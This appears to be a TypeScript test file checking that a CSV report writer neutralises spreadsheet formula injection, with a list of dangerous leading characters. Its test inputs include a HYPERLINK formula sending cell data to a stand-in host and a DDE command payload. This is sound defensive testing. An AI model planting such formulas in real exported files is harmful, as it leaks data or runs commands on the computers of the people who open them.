import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { ReportColumn } from '../../src/report/report-definition.js';
import { csv } from '../../src/report/write-csv.js';

const columns: ReportColumn[] = [
  { name: 'user_id', type: 'text', meaning: '' },
  { name: 'user_agent', type: 'text', meaning: '' },
];
/** First characters that a spreadsheet reads as the start of a formula: OWASP ASVS 5.0, 1.2.10 and OWASP's page on CSV injection. */
const dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('cells of a CSV report', () => {
  it.each([
    '=2+5',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1-800-555',
    '-2+3+cmd',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20SUM(1)',
    '"=1+1"',
    ',=1+1',
    ';=1+1',
    "'=1+1",
    'plain, with a comma',
    'two\r\nlines',
    '"',
  ])('of %j run no formula and give the value back', (value) => {
    const [cell = ''] = cellsOf(value);
    expect(dangerous).not.toContain(cell[0]);
    expect(valueOf(cell)).toBe(value);
  });

  it('give every text back once a leading apostrophe is taken off', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.constantFrom('', "'", ...dangerous), (text, start) => {
        const [cell = ''] = cellsOf(`${start}${text}`);
        expect(dangerous).not.toContain(cell[0]);
        expect(valueOf(cell)).toBe(`${start}${text}`);
      }),
    );
  });

  it('stand in records that end in CRLF, under a header', () => {
    expect(csv.head(columns)).toBe('user_id,user_agent\r\n');
    expect(csv.body(columns, [{ user_id: 'alice', user_agent: null }])).toBe('alice,\r\n');
  });
});

function cellsOf(value: string): string[] {
  const text = csv.body(columns, [{ user_id: value, user_agent: 'any' }]);
  const [cells, ...others] = parse(text, { record_delimiter: '\r\n' });
  expect(others).toEqual([]);
  return cells ?? [];
}

/** As the manifest's note says. */
function valueOf(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}
